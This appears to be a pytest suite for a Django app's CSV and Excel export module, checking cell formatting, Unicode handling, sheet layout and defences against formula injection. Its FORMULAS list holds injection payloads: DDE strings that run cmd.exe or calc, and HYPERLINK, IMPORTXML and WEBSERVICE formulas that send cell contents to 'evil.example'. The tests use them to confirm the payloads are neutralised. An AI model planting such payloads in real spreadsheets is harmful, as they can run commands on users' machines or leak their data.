import csv
import io
import math
import zipfile
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pytest
from django.utils import timezone, translation
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st

from liaison.tools import sheets
from liaison.tools.sheets import Column, SheetRefused, headings, page_rows, rows_of, words_of, write_csv, write_xlsx

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"__")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=A1",
    "=",
    "==1",
    "=\t1",
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "+86 138 0000 0000",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "- 不满意",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@张三",
    "@",
    "\t=1+1",
    "\t水管",
    "\n=1+1",
    "\n水管",
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u3000=1+1",
    "\xa0+1",
    "  \t -1",
    " ＝1",
    "\u2003@A1",
    "=1+1\n=2+2",
    '="a","b";\'c\'',
]
# These are cleaned first; what is left is a formula again.
HIDDEN_FORMULAS = {"\r=1": "\n=1", "\r\n+1": "\n+1", "\0=1": "=1", "\ufeff=1": "=1", "\u200b@A": "@A", "\x1b-1": "-1"}
HARMLESS = [
    "水管坏了",
    "1=1",
    "a+b",
    "'quoted",
    "http://example.cn/=1",
    "mailto:a@b.cn",
    "138-0000-0000",
    "{=1}",
    "%1",
    "|1",
]
TEXT = [Column("text", "Text", lambda text: text)]


def csv_of(columns, objects):
    text = b"".join(write_csv(columns, objects)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_of(columns, objects, title="Sheet"):
    """The sheet as openpyxl reads it back, formulas shown as formulas."""
    with write_xlsx(columns, objects, title) as file:
        return openpyxl.load_workbook(io.BytesIO(file.read())).active


def cells_of(columns, objects):
    return list(xlsx_of(columns, objects).iter_rows(min_row=2))


def test_there_are_forty_formulas():
    assert len(set(FORMULAS)) == 40


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_text_becomes_a_formula(payload):
    assert csv_of(TEXT, [payload]) == [["Text"], [f"'{payload}"]]
    ((cell,),) = cells_of(TEXT, [payload])
    assert (cell.data_type, cell.value, cell.quotePrefix, cell.hyperlink) == ("s", payload, True, None)


@pytest.mark.parametrize(("payload", "left"), HIDDEN_FORMULAS.items())
def test_a_formula_behind_an_unseen_mark_is_found(payload, left):
    assert csv_of(TEXT, [payload])[1] == [f"'{left}"]
    ((cell,),) = cells_of(TEXT, [payload])
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", left, True)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are_and_addresses_are_no_links(text):
    assert csv_of(TEXT, [text])[1] == [text]
    ((cell,),) = cells_of(TEXT, [text])
    assert (cell.data_type, cell.value, cell.quotePrefix, cell.hyperlink) == ("s", text, False, None)


@pytest.mark.parametrize("payload", ["=1", "+", "@SUM(1)"])
def test_a_heading_is_no_formula_either(payload):
    columns = [Column("text", payload, str)]
    assert csv_of(columns, []) == [[f"'{payload}"]]
    assert (xlsx_of(columns, [])["A1"].data_type, xlsx_of(columns, [])["A1"].value) == ("s", payload)


@given(st.lists(st.text(st.characters(exclude_categories=[])), min_size=1, max_size=5))
def test_every_text_is_written_and_read_back_as_text(texts):
    shown = [words_of(text) for text in texts]
    read = [cell for (cell,) in csv_of(TEXT, texts)[1:]]
    assert [cell.removeprefix("'") for cell in read] == [text.removeprefix("'") for text in shown]
    assert [cell for cell in read if cell[:1] in set("=+-@＝＋－＠\t\r\n")] == []


@pytest.mark.parametrize(
    "text", ["平房区𠮷田路", "葛\U000e0100城", "👨‍👩‍👧", "a,b\"c'd", "两\n行", "<a&b>", "  两边  "]
)
def test_rare_and_awkward_texts_come_back_whole(text):
    assert (csv_of(TEXT, [text])[1], cells_of(TEXT, [text])[0][0].value) == ([text], text)


def test_what_excel_would_take_for_an_escape_is_escaped():
    with write_xlsx(TEXT, ["_x0041_"], "Sheet") as file, zipfile.ZipFile(file) as parts:
        assert b"<t>_x005F_x0041_</t>" in parts.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", ["a\0b", "a\x01\x08\x0b\x1f\x7f\x9fb", "a\ufffe\uffffb"])
def test_controls_are_removed(text):
    assert (csv_of(TEXT, [text])[1], cells_of(TEXT, [text])[0][0].value) == (["ab"], "ab")


def test_half_a_character_is_marked():
    assert (csv_of(TEXT, ["a\ud800"])[1], cells_of(TEXT, ["a\ud800"])[0][0].value) == (["a\ufffd"], "a\ufffd")


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("水" * 32_767, "水" * 32_767),
        ("水" * 32_768, "水" * 32_766 + "…"),
        ("水" * 40_000, "水" * 32_766 + "…"),
        ("𠮷" * 16_383, "𠮷" * 16_383),  # two units each
        ("𠮷" * 16_384, "𠮷" * 16_383 + "…"),
        ("a" + "𠮷" * 20_000, "a" + "𠮷" * 16_382 + "…"),
    ],
)
def test_what_excel_cannot_hold_ends_with_a_mark_and_is_whole_in_csv(text, kept):
    assert (cells_of(TEXT, [text])[0][0].value == kept, csv_of(TEXT, [text])[1] == [text]) == (True, True)


MOMENT = datetime(2026, 11, 22, 1, 30, tzinfo=UTC)
VALUES = {
    "day": (date(2026, 3, 10), "2026-03-10", datetime(2026, 3, 10), "yyyy-mm-dd"),
    "moment": (MOMENT, "2026-11-22 09:30", datetime(2026, 11, 22, 9, 30), "yyyy-mm-dd hh:mm"),
    "naive": (datetime(2026, 3, 10, 9), "2026-03-10 09:00", datetime(2026, 3, 10, 9), "yyyy-mm-dd hh:mm"),
    "hour": (time(9, 5), "09:05", "09:05", "@"),
    "long ago": (date(1899, 12, 31), "1899-12-31", "1899-12-31", "@"),
    "integer": (-5, "-5", -5, "General"),
    "decimal": (Decimal("-12.50"), "-12.5", -12.5, "General"),
    "float": (66.7, "66.7", 66.7, "General"),
    "long number": (230_102_001_001_123_456, "230102001001123456", "230102001001123456", "@"),
    "not a number": (math.nan, "nan", "nan", "@"),
    "no decimal": (Decimal("NaN"), "NaN", "NaN", "@"),
    "endless": (math.inf, "inf", "inf", "@"),
    "less than endless": (-math.inf, "'-inf", "-inf", "@"),
    "true": (True, "Yes", "Yes", "@"),
    "false": (False, "No", "No", "@"),
    "nothing": (None, "", None, "General"),
    "empty": ("", "", None, "General"),
    "code": ("00123", "00123", "00123", "@"),
    "translated": (gettext_lazy("Yes"), "Yes", "Yes", "@"),
}


@pytest.mark.parametrize(("value", "in_csv", "in_excel", "style"), VALUES.values(), ids=VALUES)
def test_each_kind_of_value(value, in_csv, in_excel, style):
    assert csv_of(TEXT, [value])[1:] == [[in_csv]]
    cell = xlsx_of(TEXT, [value])["A2"]
    assert (cell.value, cell.number_format) == (in_excel, style)


def test_yes_and_no_are_in_the_reader_s_language():
    with translation.override("zh-hans"):
        assert [words_of(True), words_of(False)] == ["是", "否"]


def test_csv_begins_with_the_mark_of_utf8_and_quotes_texts_only():
    columns = [Column("name", "站名"), Column("count", "件数")]
    written = list(write_csv(columns, [{"name": "友协街道", "count": 3}, {"name": None, "count": None}]))
    assert written == [
        b"\xef\xbb\xbf" + '"站名","件数"\r\n'.encode(),
        '"友协街道",3\r\n'.encode(),
        b'"",""\r\n',
    ]


def test_csv_is_written_while_rows_come():
    seen = []
    objects = ((seen.append(n), str(n))[1] for n in range(1_000))
    lines = write_csv(TEXT, objects)
    assert (next(lines), next(lines), len(seen)) == (b'\xef\xbb\xbf"Text"\r\n', b'"0"\r\n', 1)


class Station:
    name, division = "友协站", SimpleNamespace(name="平房区", parent=None)

    def get_kind_display(self):
        return "街道"


def test_a_column_takes_a_path_a_method_a_key_or_a_function():
    columns = [
        Column("name", "Name"),
        Column("kind", "Kind", "get_kind_display"),
        Column("district", "District", "division.name"),
        Column("city", "City", "division.parent.name"),
        Column("size", "Size", lambda station: len(station.name)),
        Column("none", "None", "missing.further"),
    ]
    assert list(rows_of(columns, [Station()])) == [["友协站", "街道", "平房区", None, 3, None]]
    assert list(page_rows(columns, [Station()])) == [["友协站", "街道", "平房区", "", "3", ""]]
    assert headings(columns) == ["Name", "Kind", "District", "City", "Size", "None"]


def test_a_falsy_value_is_not_nothing():
    columns = [Column("a", "A", "a.b"), Column("c", "C")]
    assert list(page_rows(columns, [{"a": {"b": 0}, "c": False}])) == [["0", "No"]]


@pytest.mark.parametrize(("columns", "merged"), [(1, set()), (3, {"A1:C1", "A2:C2"})])
def test_lines_above_the_headings_are_one_cell_each_and_frozen_with_them(columns, merged):
    shown = [Column(str(number), f"c{number}", str) for number in range(columns)]
    with write_xlsx(shown, ["a", "b"], "Sheet", ("=Title", "under")) as file:
        sheet = openpyxl.load_workbook(io.BytesIO(file.read())).active
    assert [sheet.cell(row, 1).value for row in range(1, 6)] == ["=Title", "under", "c0", "a", "b"]
    assert ({str(cells) for cells in sheet.merged_cells.ranges}, sheet.freeze_panes) == (merged, "A4")
    assert (sheet["A1"].data_type, sheet.print_title_rows, sheet.auto_filter.ref[:2]) == ("s", "$1:$3", "A3")


def test_excel_has_a_frozen_bold_head_a_filter_and_wide_enough_columns():
    columns = [Column("a", "编号", "a"), Column("b", "Body of the matter", "b"), Column("c", "C", "c")]
    sheet = xlsx_of(columns, [{"a": "YJ-2026-0001", "b": "水" * 500, "c": 1}], "群众意见建议")
    assert (sheet.title, sheet.freeze_panes, sheet.auto_filter.ref) == ("群众意见建议", "A2", "A1:C2")
    assert [cell.font.bold for cell in sheet[1]] == [True, True, True]
    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
    assert [round(width) for width in widths] == [15, 41, 9]


def test_excel_prints_across_a4_with_the_headings_on_every_page_and_long_words_in_several_lines():
    columns = [Column("a", "A"), Column("n", "N")]
    sheet = xlsx_of(columns, [{"a": "一\n二", "n": 3}], "x")
    setup = sheet.page_setup
    assert (setup.orientation, setup.paperSize, setup.fitToHeight) == ("landscape", 9, 0)
    assert (sheet.print_title_rows, sheet.print_options.gridLines, sheet.oddFooter.center.text) == (
        "$1:$1",
        True,
        "&P / &N",
    )
    assert [(cell.alignment.wrap_text, cell.alignment.vertical) for cell in sheet[2]] == [(True, "top"), (None, "top")]


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("超期未答复", "超期未答复"),
        ("a/b\\c[d]:*?", "a b c d"),
        ("", "Sheet1"),
        ("'''", "Sheet1"),
        ("History", "Sheet1"),
        ("长" * 40, "长" * 31),
        ("𠮷" * 40, "𠮷" * 15),
        ("a\nb\0", "a b"),
        (gettext_lazy("Yes"), "Yes"),
    ],
)
def test_any_title_is_made_a_sheet_s_name(title, name):
    assert xlsx_of(TEXT, [], title).title == name


def test_a_sheet_without_rows_or_columns_opens():
    assert xlsx_of(TEXT, []).max_row == 1
    assert xlsx_of([], [1, 2]).max_row == 1


def test_more_rows_than_excel_has_are_refused_in_words_not_dropped(monkeypatch):
    monkeypatch.setattr(sheets, "EXCEL_ROWS", 4)
    assert len(cells_of(TEXT, ["a", "b", "c"])) == 3
    with pytest.raises(SheetRefused, match="Too many rows for Excel, please download the CSV"):
        write_xlsx(TEXT, ["a", "b", "c", "d"], "Sheet")


def test_a_broken_column_leaves_no_open_file():
    with pytest.raises(ZeroDivisionError):
        write_xlsx([Column("a", "A", lambda row: 1 / 0)], [1], "Sheet")


def test_moments_are_those_of_the_reader_s_time_zone():
    with timezone.override(timezone.get_fixed_timezone(timedelta(0))):
        assert words_of(MOMENT) == "2026-11-22 01:30"


@pytest.mark.parametrize(
    ("value", "is_whole"),
    [
        (date(2026, 3, 10), True),
        (time(9, 5), True),
        (0, True),
        (-3, True),
        (1234.5, True),
        ("12,000.00", True),
        ("95%", True),
        ("", False),
        ("2026-03-10 至 2026-03-12", False),
        ("3月10日", False),
        ("12345678901", False),
        ("12 楼", False),
    ],
)
def test_a_day_an_hour_and_a_number_stay_on_one_line_of_a_page(value, is_whole):
    ((cell,),) = page_rows([Column("value", "V")], [{"value": value}])
    assert cell.stays_whole is is_whole
    assert cell == words_of(value)


@pytest.mark.parametrize(
    ("value", "are_names"),
    [
        ("温如松、邵桂兰", True),
        ("温如松、阚丽、欧阳子青", True),
        ("温如松", False),
        ("修路灯、换井盖，十日前办完", False),
        ("温如松、邵桂兰；其他代表：卓小雨", False),
        ("约请市政部门、供水公司负责人到场", False),
    ],
)
def test_a_list_of_names_is_broken_between_them(value, are_names):
    ((cell,),) = page_rows([Column("value", "V")], [{"value": value}])
    assert cell.are_names is are_names
